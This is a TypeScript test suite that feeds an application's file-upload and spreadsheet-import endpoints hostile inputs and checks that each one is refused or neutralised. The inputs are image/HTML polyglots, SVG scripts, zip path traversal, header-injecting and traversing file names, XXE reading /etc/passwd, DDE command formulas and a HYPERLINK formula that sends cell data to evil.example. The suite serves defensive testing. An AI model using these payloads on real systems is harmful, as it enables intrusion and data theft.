/**
 * Attacks inside files: pictures that are pages or archives, pictures that say where one lives, names that carry headers,
 * cells that are formulas. Through the real door, and out of it again.
 */
import { randomUUID } from 'node:crypto'
import { readdirSync } from 'node:fs'
import { inflateRawSync } from 'node:zlib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { bomb, jpeg, picture, png, xlsx, zip } from '../../kernel/files/samples.ts'
import { archiveOf, book, bookParts, sheetOf } from '../../kernel/workbook/test-books.ts'
import { runImport as runMatters } from '../../modules/casework/import/running.ts'
import { runImport as runPersons } from '../../modules/registry/import/running.ts'
import { fresh, openFront } from '../support/front.ts'
import type { Front, Heard } from '../support/front.ts'
import { openWorld } from '../support/looks/world.ts'
import type { Role, World } from '../support/looks/world.ts'
import { changed, openRows } from '../support/rows.ts'
import type { Rows } from '../support/rows.ts'

let w: World
let front: Front
let rows: Rows

beforeAll(async () => {
  w = await openWorld()
  front = await openFront(w.travel.city, w.people)
  rows = await openRows(w.travel.city.ownerUrl, ['territory', 'packs'])
}, 240_000)
afterAll(async () => {
  await rows?.close()
  await front?.close()
  await w?.close()
})

/** One part; `type` is what the client says it is. */
function upload(role: Role, content: Buffer, name = 'photo.jpg', type = 'image/jpeg'): Promise<Heard> {
  const boundary = randomUUID()
  return front.send(role, {
    method: 'POST',
    url: '/api/kernel/upload',
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    payload: Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n`,
      ),
      content,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]),
  })
}
const kept = () =>
  readdirSync(w.travel.city.filesFolder, { recursive: true, withFileTypes: true }).filter((e) => e.isFile())
    .length
const page = '<!doctype html><script>alert(document.cookie)</script>'

describe('what is no picture, document or workbook', () => {
  const refused: readonly [string, Buffer, string, string][] = [
    ['a GIF that is a page', Buffer.from(`GIF89a/*${page}*/`), 'a.gif', 'image/gif'],
    [
      'a page that begins like a GIF and is called JPEG',
      Buffer.from(`GIF87a=1;${page}`),
      'a.jpg',
      'image/jpeg',
    ],
    [
      'a drawing with a script',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
      'a.svg',
      'image/svg+xml',
    ],
    ['a drawing called PNG', Buffer.from('<?xml version="1.0"?><svg onload="x()"/>'), 'a.png', 'image/png'],
    [
      'a page with the first bytes of a JPEG',
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(page)]),
      'a.jpg',
      'image/jpeg',
    ],
    [
      'a page with the first bytes of a PNG',
      Buffer.concat([png.subarray(0, 8), Buffer.from(page)]),
      'a.png',
      'image/png',
    ],
    ['a page behind a mark of UTF-16', Buffer.from(`\ufeff${page}`, 'utf16le'), 'a.jpg', 'image/jpeg'],
    [
      'an archive of programs',
      zip({ 'setup.exe': 'MZ' }),
      'a.xlsx',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    ],
    [
      'an archive that climbs',
      zip({ '../../etc/cron.d/x': 'x', '[Content_Types].xml': '<Types/>' }),
      'a.xlsx',
      'application/zip',
    ],
    ['an archive before a picture', Buffer.concat([zip({ 'a.class': 'CAFE' }), jpeg]), 'a.jpg', 'image/jpeg'],
    ['a picture of 400 million points', bomb(20_000), 'a.png', 'image/png'],
    ['a picture cut in half', jpeg.subarray(0, jpeg.length >> 1), 'a.jpg', 'image/jpeg'],
    ['nothing', Buffer.alloc(0), 'a.jpg', 'image/jpeg'],
    ['more than may be sent', Buffer.concat([jpeg, Buffer.alloc(10 * 1024 * 1024)]), 'a.jpg', 'image/jpeg'],
  ]
  it.each(refused)(
    '%s is refused by name; no row, no file, no trace of it',
    async (_what, content, name, type) => {
      await front.send('resident', { method: 'GET', url: '/api/identity/me' })
      const [before, files] = [await rows.state(), kept()]
      const answer = await upload('resident', content, name, type)
      expect([400, 413, 415, 422], answer.body).toContain(answer.statusCode)
      expect(answer.json<{ code: string }>().code).toMatch(/^files\./)
      expect(changed(before, await rows.state())).toEqual([])
      expect(kept()).toBe(files)
    },
  )
})

describe('what is one, and something else besides', () => {
  const hidden = Buffer.from('PLANTED<script>')
  it.each([
    ['an archive', Buffer.concat([jpeg, zip({ 'a.html': 'PLANTED<script>' }), hidden])],
    ['a page', Buffer.concat([jpeg, hidden])],
    ['a program', Buffer.concat([jpeg, Buffer.from('MZ\x90\0', 'latin1'), hidden])],
  ])('a picture with %s behind it leaves as the picture alone', async (_what, content) => {
    const sent = await upload('resident', content, 'both.html', 'text/html')
    expect(sent.statusCode, sent.body).toBe(200)
    const { id } = sent.json<{ id: string }>()
    for (const size of ['', '?size=thumb']) {
      const got = await front.send('resident', { method: 'GET', url: `/api/kernel/file/${id}${size}` })
      expect(got.headers['content-type']).toBe('image/jpeg')
      expect(got.rawPayload.includes(hidden)).toBe(false)
      expect(got.rawPayload.includes('PK\u0003\u0004')).toBe(false)
      expect(got.rawPayload.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]))
    }
  })

  it('a photo from a phone says neither where it was taken nor with what', async () => {
    const told = await picture()
      .withExif({
        IFD0: { Make: 'PLANTEDPHONE', Artist: 'PLANTEDNAME' },
        IFD3: { GPSLatitude: '46/1 35/1 0/1', GPSLongitude: '125/1 2/1 0/1', GPSMapDatum: 'PLANTEDPLACE' },
      })
      .jpeg()
      .toBuffer()
    expect(told.includes('PLANTEDPLACE')).toBe(true)
    const { id } = (await upload('resident', told)).json<{ id: string }>()
    for (const size of ['', '?size=thumb']) {
      const got = await front.send('resident', { method: 'GET', url: `/api/kernel/file/${id}${size}` })
      expect(got.rawPayload.includes('PLANTED')).toBe(false)
      const { exif, xmp, iptc } = await sharp(got.rawPayload).metadata()
      expect([exif, xmp, iptc]).toEqual([undefined, undefined, undefined])
    }
  })

  it('a document is saved, never shown, whatever it was called', async () => {
    for (const [content, type] of [
      [Buffer.from(`%PDF-1.7\n${page}\n`), 'application/pdf'],
      [xlsx, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    ] as const) {
      const { id } = (await upload('resident', content, 'x.html', 'text/html')).json<{ id: string }>()
      const got = await front.send('resident', {
        method: 'GET',
        url: `/api/kernel/file/${id}`,
        headers: { accept: 'text/html' },
      })
      expect(got.headers['content-type']).toBe(type)
      expect(got.headers['content-disposition']).toMatch(/^attachment; /)
      expect(got.headers['x-content-type-options']).toBe('nosniff')
      expect(got.headers['content-security-policy']).toContain('sandbox')
    }
  })
})

describe('the name of a file', () => {
  it.each([
    'a.jpg\r\nset-cookie: linli_session=x',
    'a.jpg%0d%0aset-cookie: a=b',
    'a\\";x=\\"b.html',
    '../../../etc/passwd',
    '..\\..\\windows\\system32\\x.exe',
    'C:\\x.jpg',
    '\u202egpj.exe',
    '.htaccess',
    'CON',
    '=HYPERLINK("http://evil.example").jpg',
    '照片😀𠮷.jpg',
    `${'长'.repeat(400)}.jpg`,
    "a'()*;.jpg",
    '<img src=x onerror=alert(1)>.jpg',
  ])('%j carries no header, no path, no reversed letters', async (name) => {
    const sent = await upload('resident', jpeg, name)
    // What tears the form apart is refused by name.
    if (sent.statusCode !== 200) return expect([400, 415], sent.body).toContain(sent.statusCode)
    const { id, name: given } = sent.json<{ id: string; name: string }>()
    // oxlint-disable-next-line no-control-regex
    expect(given).not.toMatch(/[\u0000-\u001f\u007f\u202a-\u202e\u2066-\u2069/\\]/)
    expect(given.length).toBeLessThanOrEqual(120)
    const got = await front.send('resident', { method: 'GET', url: `/api/kernel/file/${id}` })
    expect(got.statusCode).toBe(200)
    expect(got.headers['content-disposition']).toMatch(/^inline; filename\*=UTF-8''[A-Za-z0-9%!~_.-]*$/)
    expect(got.headers['set-cookie']).toBeUndefined()
    expect(got.headers['content-type']).toBe('image/jpeg')
  })
})

/** What a table program may take for a formula. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1)',
  '_x003D_1+1',
  ' =1+1',
]

/** The parts of a workbook as text. */
function partsOf(archive: Buffer): Map<string, string> {
  const parts = new Map<string, string>()
  const end = archive.lastIndexOf(Buffer.from('PK\u0005\u0006', 'latin1'))
  let at = archive.readUInt32LE(end + 16)
  for (let n = archive.readUInt16LE(end + 10); n > 0; n--) {
    const [method, size] = [archive.readUInt16LE(at + 10), archive.readUInt32LE(at + 20)]
    const [name, extra, comment] = [
      archive.readUInt16LE(at + 28),
      archive.readUInt16LE(at + 30),
      archive.readUInt16LE(at + 32),
    ]
    const local = archive.readUInt32LE(at + 42)
    const start = local + 30 + archive.readUInt16LE(local + 26) + archive.readUInt16LE(local + 28)
    const body = archive.subarray(start, start + size)
    parts.set(
      archive.toString('utf8', at + 46, at + 46 + name),
      (method === 8 ? inflateRawSync(body) : body).toString('utf8'),
    )
    at += 46 + name + extra + comment
  }
  return parts
}
/** Cells hold texts and numbers; formulas, links, macros and outside data there are none. */
function harmless(content: Buffer): string {
  const parts = partsOf(content)
  const sheets = [...parts].filter(([name]) => name.startsWith('xl/worksheets/sheet'))
  expect(sheets.length).toBeGreaterThan(0)
  for (const [name, text] of sheets) {
    expect(text, name).not.toMatch(/<f[ >/]|<hyperlink|<oleObject|<ddeLink/i)
    // A cell that begins like a formula says of itself that it is a text.
    for (const [, attributes, inner] of text.matchAll(/<c ([^>]*)>(.*?)<\/c>/gs))
      if (/<(?:v|t)[^>]*>\s*[=+\-@＝＋－＠]/u.test(inner!))
        expect(attributes, inner).toMatch(/t="(str|inlineStr|s)"/)
  }
  for (const name of parts.keys()) expect(name).not.toMatch(/vba|externalLink|connections|\.bin$|embeddings/i)
  return [...parts.values()].join('\n')
}

describe('a workbook that goes out', () => {
  const importing = async (path: string, role: Role, content: Buffer, more: object) => {
    const sent = await upload(role, content, '导入.xlsx', 'application/octet-stream')
    expect(sent.statusCode, sent.body).toBe(200)
    const answer = await front.send(role, {
      method: 'POST',
      url: `/api/${path}/start-import`,
      headers: fresh(),
      payload: { file: sent.json<{ ref: string }>().ref, ...more },
    })
    expect(answer.statusCode, answer.body).toBe(200)
    return answer.json<{ id: string }>().id
  }
  const download = async (url: string, role: Role) => {
    const answer = await front.send(role, { method: 'GET', url })
    expect(answer.statusCode, answer.body.slice(0, 300)).toBe(200)
    expect(answer.headers['content-disposition']).toMatch(/^attachment; filename\*=UTF-8''/)
    return answer.rawPayload
  }

  it('with the rows that were wrong holds what was written as text, in cells and in headings', async () => {
    const { city } = w.travel
    const titles = ['原编号', '标题', '诉求内容', '反映时间', '地点', '类别', '身份', '姓名', '电话', '=1+1']
    const lines = formulas.map((f, n) => [`L-${n}`, f, f, '昨天', f, f, f, f, f, f])
    const matters = await importing('casework', 'operator', book(sheetOf(titles, lines)), { mode: 'partial' })
    await runMatters(city.ground, city.realm, matters)
    const wrong = harmless(await download(`/api/casework/import-errors/${matters}.xlsx`, 'operator'))
    expect(wrong).toContain('=HYPERLINK')

    const heads = ['姓名', '身份证号', '联系电话', '备注', '@SUM(1)']
    const people = await importing(
      'registry',
      'dispatcher',
      book(
        sheetOf(
          heads,
          formulas.map((f) => [f, f, f, f, f]),
        ),
      ),
      {},
    )
    await runPersons(city.ground, city.realm, people)
    const state = (
      await front.send('dispatcher', { method: 'GET', url: `/api/registry/import-state?id=${people}` })
    ).json<{ revision: number }>()
    await front.send('dispatcher', {
      method: 'POST',
      url: '/api/registry/run-import',
      headers: fresh(),
      payload: { id: people, revision: state.revision, mode: 'partial' },
    })
    await runPersons(city.ground, city.realm, people)
    expect(harmless(await download(`/api/registry/import-errors/${people}.xlsx`, 'dispatcher'))).toContain(
      '=HYPERLINK',
    )
  }, 60_000)

  it('to be filled in holds no formula either', async () => {
    for (const path of ['casework', 'registry'])
      expect(
        harmless(
          await download(
            `/api/${path}/import-template.xlsx`,
            path === 'casework' ? 'operator' : 'dispatcher',
          ),
        ),
      ).toContain('<worksheet')
  })
})

describe('a workbook that comes in', () => {
  const big = `<row r="1"><c t="inlineStr"><is><t>${'0'.repeat(30_000_000)}</t></is></c></row>`
  it.each([
    [
      'an entity that grows',
      () =>
        archiveOf(
          bookParts('', {
            head: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>',
          }),
        ),
    ],
    [
      'an entity that reads a file',
      () =>
        archiveOf(
          bookParts('<row r="1"><c t="inlineStr"><is><t>&x;</t></is></c></row>', {
            head: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
          }),
        ),
    ],
    ['a cell of thirty million signs', () => archiveOf(bookParts(big))],
    [
      'a million columns',
      () => archiveOf(bookParts('<row r="1"><c r="XFDXFD1" t="inlineStr"><is><t>x</t></is></c></row>')),
    ],
    ['no sheet at all', () => xlsx],
  ])(
    'with %s ends in a sentence, in bounded time, and imports nothing',
    async (_what, make) => {
      const { city } = w.travel
      const sent = await upload('operator', make(), '导入.xlsx', 'application/octet-stream')
      if (sent.statusCode !== 200) return expect(sent.statusCode, sent.body).toBeLessThan(500)
      const started = await front.send('operator', {
        method: 'POST',
        url: '/api/casework/start-import',
        headers: fresh(),
        payload: { file: sent.json<{ ref: string }>().ref, mode: 'partial' },
      })
      // Refused at the door already, by a sentence of its own.
      if (started.statusCode !== 200)
        return expect([started.statusCode, started.json<{ code: string }>().code]).toEqual([
          422,
          'casework.not-a-workbook',
        ])
      const { id } = started.json<{ id: string }>()
      const count = () => city.read(async (ctx) => ctx.tx.first('SELECT count(*) AS n FROM flow.matter'))
      const before = await count()
      const at = performance.now()
      await runMatters(city.ground, city.realm, id)
      expect(performance.now() - at).toBeLessThan(40_000)
      expect(await count()).toEqual(before)
      const state = (
        await front.send('operator', { method: 'GET', url: `/api/casework/import-state?id=${id}` })
      ).json<{ state: string; problem: string | null }>()
      expect(state.problem ?? '', JSON.stringify(state)).toMatch(/\p{Script=Han}/u)
      expect(JSON.stringify(state)).not.toContain('root:x:')
    },
    60_000,
  )
})

it('nothing of this broke the server', () => expect(front.failures).toEqual([]))
